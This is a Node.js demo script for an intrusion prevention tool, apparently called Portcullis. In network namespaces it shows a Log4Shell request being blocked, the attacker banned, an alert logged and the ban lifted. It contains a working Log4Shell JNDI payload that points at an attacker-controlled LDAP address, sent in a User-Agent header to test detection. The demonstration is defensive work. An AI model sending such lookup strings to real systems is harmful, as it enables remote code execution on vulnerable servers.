/**
 * `sudo npm run demo`: an attack on a web server, the block and the event, in network namespaces of this machine.
 * Every statement that is printed with a tick was looked at; the first one that is not so ends the demo with 1.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { main, PreparationError, prepare, root, say } from './prepare.mjs';

const PORT = 80;
/** Another service on the server, over UDP. */
const OTHER_PORT = 5060;
const REQUEST_MILLISECONDS = 3000;
const ANSWER_MILLISECONDS = 1000;
/** Long enough for several retransmissions of what was dropped. */
const DROPPED_MILLISECONDS = 1200;
const command = join(root, 'packages', 'cli', 'bin', 'portcullis.js');

const coloured = process.stdout.isTTY && !process.env.NO_COLOR;
const paint = (code) => (text) => (coloured ? `\u001b[${code}m${text}\u001b[0m` : text);
const bold = paint(1);
const dim = paint(2);
const green = paint(32);
const red = paint(31);
const yellow = paint(33);

const print = (text = '') => process.stdout.write(`${text}\n`);
const indented = (text) => {
  for (const line of text.trimEnd().split('\n')) print(`     ${line}`);
};

let stepNumber = 0;
function step(title) {
  print(`\n${bold(`${++stepNumber}. ${title}`)}`);
}

/** What the demo says must be so. */
function claim(truth, text, found) {
  if (truth) return print(`   ${green('✔')} ${text}`);
  print(`   ${red('✘')} ${text}`);
  throw new PreparationError(`the demo saw something else: ${found}`);
}

const shown = (argv) => print(`   ${dim('$')} ${yellow(argv)}`);

/** The engine on the gateway, as an administrator runs it, with its files in a folder of its own. */
class Gateway {
  directory = mkdtempSync(join(tmpdir(), 'portcullis-demo-'));
  configuration = join(this.directory, 'portcullis.yaml');

  constructor(lab) {
    this.lab = lab;
    // No rule-files: the rules that come with Portcullis are loaded.
    const settings = {
      protect: { networks: [`${lab.address('server', 4)}/24`, `${lab.address('server', 6)}/64`] },
      'never-block': ['self'],
      control: { socket: join(this.directory, 'control.sock') },
      'state-dir': join(this.directory, 'state'),
      'log-dir': join(this.directory, 'log'),
      metrics: { listen: 'off' },
    };
    // JSON is YAML too.
    writeFileSync(this.configuration, JSON.stringify(settings, null, 2));
  }

  async start() {
    shown('portcullis run --enable');
    const argv = [process.execPath, command, 'run', '--enable', '--config', this.configuration];
    this.engine = this.lab.spawn('gateway', argv, { env: { PORTCULLIS_LOG_TEXT: '1' } });
    await this.engine.waitFor(/protecting:.*\n/, 60_000);
    indented(this.engine.stdout);
  }

  async stop() {
    const before = this.engine.stdout.length;
    this.engine.kill('SIGINT');
    const { code } = await this.engine.exited;
    indented(this.engine.stdout.slice(before));
    return code;
  }

  /** Runs a command of ours on the gateway, shows it, and gives what it printed. */
  async ask(...argv) {
    shown(`portcullis ${argv.join(' ')}`);
    const result = await this.exec(argv);
    indented(result.stdout || result.stderr);
    return result;
  }

  async json(...argv) {
    const { stdout, stderr } = await this.exec([...argv, '--json']);
    if (stdout === '') throw new PreparationError(`'portcullis ${argv.join(' ')}' said: ${stderr.trim()}`);
    return JSON.parse(stdout);
  }

  exec(argv) {
    return this.lab.exec('gateway', [process.execPath, command, ...argv, '--config', this.configuration]);
  }

  alerts() {
    const lines = readFileSync(join(this.directory, 'log', 'eve.json'), 'utf8')
      .split('\n')
      .filter(Boolean);
    return lines.map((line) => JSON.parse(line)).filter((record) => record.event_type === 'alert');
  }

  /** Chains, rules and sets of ours in the gateway's kernel. */
  async traces() {
    const found = [];
    for (const tool of ['iptables', 'ip6tables']) {
      for (const table of ['raw', 'mangle', 'filter'])
        found.push(...(await this.lab.run('gateway', [tool, '-w', '-t', table, '-S'])).split('\n'));
    }
    found.push(...(await this.lab.run('gateway', ['ipset', 'list', '-n'])).split('\n'));
    return found.filter((line) => line.includes('portcullis'));
  }

  remove() {
    rmSync(this.directory, { recursive: true, force: true });
  }
}

const firstLine = (response) => response.toString('latin1').split('\r\n')[0];

async function demonstrate(lab, gateway, waitUntil) {
  const attacker = lab.address('attacker', 4);
  const bystander = lab.address('bystander', 4);
  const target = lab.address('server', 4);
  const server = await lab.httpServer('server', PORT);
  const get = (role, path, { headers = [], timeout = REQUEST_MILLISECONDS } = {}) => {
    const more = headers.map((header) => ` -H '${header}'`).join('');
    print(`   ${dim(`${lab.address(role, 4)}$`)} ${yellow(`curl http://${target}${path}${more}`)}`);
    return lab.httpGet(role, path, { port: PORT, host: target, timeout, headers });
  };
  await lab.udpServer('server', OTHER_PORT);
  const asksOther = (role) => {
    print(`   ${dim(`${lab.address(role, 4)}$`)} ${yellow(`echo hello | nc -u ${target} ${OTHER_PORT}`)}`);
    return lab.udpRequest(role, {
      host: target,
      port: OTHER_PORT,
      payload: 'hello',
      timeout: ANSWER_MILLISECONDS,
    });
  };
  const delivered = async (text) => (await server.received()).includes(text);
  const asked = async () =>
    (await server.received())
      .toString('latin1')
      .match(/^(GET|POST) .*(?= HTTP)/gm)
      ?.join(', ') ?? 'nothing';

  print(`
   attacker   ${attacker} ──┐
                         ├── gateway with Portcullis ── ${target}  web server
   bystander  ${bystander} ──┘`);

  step('Portcullis starts on the gateway, with the rules that come with it');
  await gateway.start();
  const ready = await gateway.json('status');
  claim(
    ready.state === 'protecting' && ready.rules.loaded > 0,
    `${ready.rules.loaded} rules are loaded, traffic is inspected`,
    JSON.stringify(ready),
  );

  step('An ordinary request');
  const ordinary = await get('attacker', '/products?id=7');
  claim(ordinary.complete, `answered: ${firstLine(ordinary.response)}`, ordinary.state);
  claim(
    await delivered('/products?id=7'),
    `the web server's application received: ${await asked()}`,
    await asked(),
  );

  step('An attack: Log4Shell (CVE-2021-44228) in a header');
  const lookup = `\${jndi:ldap://${attacker}:1389/a}`;
  const attack = await get('attacker', '/login', {
    headers: [`User-Agent: ${lookup}`],
    timeout: DROPPED_MILLISECONDS,
  });
  claim(
    attack.connected && !attack.complete && attack.response.length === 0,
    'connected, but never answered',
    firstLine(attack.response),
  );
  claim(
    !(await delivered('jndi')) && !(await delivered('/login')),
    `the web server's application has still only received: ${await asked()}`,
    await asked(),
  );

  step('The attacker is blocked');
  const list = await gateway.ask('bans', 'list');
  claim(list.stdout.includes(attacker), `${attacker} is on the list`, list.stdout);

  step('Whatever it sends now is dropped by the kernel, before inspection');
  const before = await gateway.json('status');
  const [after, echo] = await Promise.all([
    get('attacker', '/products?id=8', { timeout: DROPPED_MILLISECONDS }),
    asksOther('attacker'),
  ]);
  claim(!after.connected, 'no connection to the web server', after.state);
  claim(echo === null, 'no answer from another service either, over UDP', `an answer: ${echo}`);
  const [now, { bans }] = await Promise.all([gateway.json('status'), gateway.json('bans', 'list')]);
  const dropped = bans.find((ban) => ban.prefix === attacker)?.packets ?? 0;
  claim(dropped > 0, `the kernel has dropped ${dropped} packets because of the ban`, `${dropped} dropped`);
  const reached = now.packets.received - before.packets.received;
  claim(
    reached === 0,
    'not one packet of all that reached the inspection queue',
    `${reached} packets reached the queue`,
  );

  step('A bystander notices nothing');
  const other = await get('bystander', '/products?id=9');
  claim(
    other.complete && (await delivered('/products?id=9')),
    `answered: ${firstLine(other.response)}`,
    other.state,
  );

  step('The event, as written to eve.json (the fields that matter most)');
  const alert = await waitUntil(() => gateway.alerts().find((record) => record.src_ip === attacker), {
    what: 'the event',
  });
  tellEvent(alert);
  claim(
    alert.alert?.action === 'blocked' &&
      alert.dest_ip === target &&
      alert.portcullis?.ban?.prefix === attacker,
    'it tells who, what and what was done',
    JSON.stringify(alert),
  );

  step('The administrator lets the device in again');
  const removed = await gateway.ask('bans', 'remove', attacker);
  claim(removed.code === 0, 'the ban is lifted', removed.stderr);
  const again = await get('attacker', '/products?id=10');
  claim(
    again.complete && (await delivered('/products?id=10')),
    `answered: ${firstLine(again.response)}`,
    again.state,
  );

  step('Portcullis stops (Ctrl-C)');
  const code = await gateway.stop();
  claim(code === 0, 'it ended in order', `exit code ${code}\n${gateway.engine.stderr}`);
  const traces = await gateway.traces();
  claim(traces.length === 0, 'no rule, chain or set of it is left in the kernel', traces.join('\n'));
  const unprotected = await get('attacker', '/products?id=11');
  claim(unprotected.complete, `traffic passes: ${firstLine(unprotected.response)}`, unprotected.state);
}

function tellEvent(record) {
  const { ban, attacker } = record.portcullis ?? {};
  const rows = [
    ['timestamp', record.timestamp],
    [
      'src_ip → dest_ip',
      `${record.src_ip} port ${record.src_port} → ${record.dest_ip} port ${record.dest_port}`,
    ],
    ['in_iface', record.in_iface],
    ['app_proto', record.app_proto],
    ['http', `${record.http?.http_method} ${record.http?.url}, User-Agent ${record.http?.http_user_agent}`],
    ['alert.signature', `${record.alert?.signature} (sid ${record.alert?.signature_id})`],
    ['alert.category', record.alert?.category],
    ['alert.action', record.alert?.action],
    ['portcullis.event', record.portcullis?.event],
    [
      'portcullis.attacker',
      `${attacker?.ip}, ${attacker?.mac}, handshake ${attacker?.handshake ? 'completed' : 'not completed'}`,
    ],
    ['portcullis.ban', `${ban?.prefix} until ${ban?.until}`],
    ['community_id', record.community_id],
  ];
  const width = Math.max(...rows.map(([name]) => name.length));
  for (const [name, value] of rows) print(`     ${dim(name.padEnd(width))}  ${value}`);
}

main(async () => {
  if (process.getuid() !== 0)
    throw new PreparationError(
      'the demo builds a small network in namespaces, which needs root: sudo npm run demo (where sudo does not find npm: sudo env "PATH=$PATH" npm run demo)',
    );
  await prepare(['build', 'run']);
  const { Lab, waitUntil } = createRequire(import.meta.url)('@portcullis/testkit');
  const missing = Lab.available();
  if (missing !== null) throw new PreparationError(`the demo cannot run here: ${missing}`);
  Lab.cleanStale('pcdemo');

  let lab;
  let gateway;
  const cleanUp = () => {
    lab?.destroy();
    gateway?.remove();
  };
  for (const [signal, code] of [
    ['SIGINT', 130],
    ['SIGTERM', 143],
    ['SIGHUP', 129],
  ])
    process.once(signal, () => {
      cleanUp();
      process.exit(code);
    });
  try {
    say('building a network: three machines around a gateway, as namespaces that nobody else sees');
    lab = new Lab('pcdemo', { bystander: true });
    gateway = new Gateway(lab);
    await demonstrate(lab, gateway, waitUntil);
    print(`\n${bold('That was it.')} 'sudo npm start' protects this machine in the same way.`);
  } finally {
    cleanUp();
  }
});
